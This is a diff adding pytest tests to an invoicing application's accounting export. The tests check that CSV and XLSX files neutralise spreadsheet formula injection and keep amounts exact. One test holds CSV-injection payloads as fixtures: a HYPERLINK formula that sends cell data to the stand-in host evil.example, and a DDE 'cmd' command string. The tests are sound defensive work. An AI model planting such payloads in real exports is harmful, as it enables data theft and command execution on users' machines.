@@ -1,6 +1,8 @@
 import csv
 import io
+import re
 import threading
+import zipfile
 from collections import defaultdict
 from datetime import date
 from decimal import Decimal
@@ -430,3 +432,51 @@ def test_two_runs_at_once_export_every_document_once(company, customer, finance)
     assert AccountingExport.objects.get().document_count == len(documents)
     assert set(Invoice.objects.values_list("export_run", flat=True)) == {runs[0].pk}
     assert len(read_csv(runs[0])) == len(documents)
+
+
+def test_the_files_carry_formula_like_text_as_inert_text(company, customer, finance):
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")'
+    command = "-2+3+cmd|' /C calc'!A0"
+    draft = services.invoice_draft_create(
+        actor=finance,
+        customer=customer,
+        lines=[{"description": formula, "quantity": "1", "unit_price_ore": 10_000}],
+    )
+    Invoice.objects.filter(pk=draft.pk).update(your_reference=command, order_reference="@SUM(1+1)")
+    draft.refresh_from_db()
+    issue(draft, finance)
+
+    run = accounting_export_run(actor=finance)
+
+    (row,) = read_csv(run)
+    assert row["description"] == "'" + formula
+    assert row["your_reference"] == "'" + command
+    assert row["order_reference"] == "'@SUM(1+1)"
+    with zipfile.ZipFile(run.xlsx_file.open("rb")) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    sheet = CalamineWorkbook.from_filelike(run.xlsx_file.open("rb")).get_sheet_by_index(0)
+    assert formula in sheet.to_python()[-1]
+
+
+def test_every_amount_is_exact_in_both_files_and_credit_notes_stay_negative_numbers(
+    company, customer, finance
+):
+    invoice = issue_lines(
+        customer,
+        finance,
+        [{"description": "Rådgivning", "quantity": "1", "unit_price_ore": 7_239_401}],
+    )
+    issue(services.credit_note_create(actor=finance, invoice=invoice), finance)
+
+    run = accounting_export_run(actor=finance)
+
+    amounts = [(r["net_amount"], r["vat_amount"], r["gross_amount"]) for r in read_csv(run)]
+    assert amounts == [
+        ("72394,01", "18098,50", "90492,51"),
+        ("-72394,01", "-18098,50", "-90492,51"),
+    ]
+    with zipfile.ZipFile(run.xlsx_file.open("rb")) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    # Net, VAT and gross are the columns P, Q and R; xlsxwriter once wrote 90492.50999999999.
+    written = re.findall(r'<c r="[PQR]\d+"[^>]*><v>([^<]*)</v>', xml)
+    assert written == ["72394.01", "18098.50", "90492.51", "-72394.01", "-18098.50", "-90492.51"]
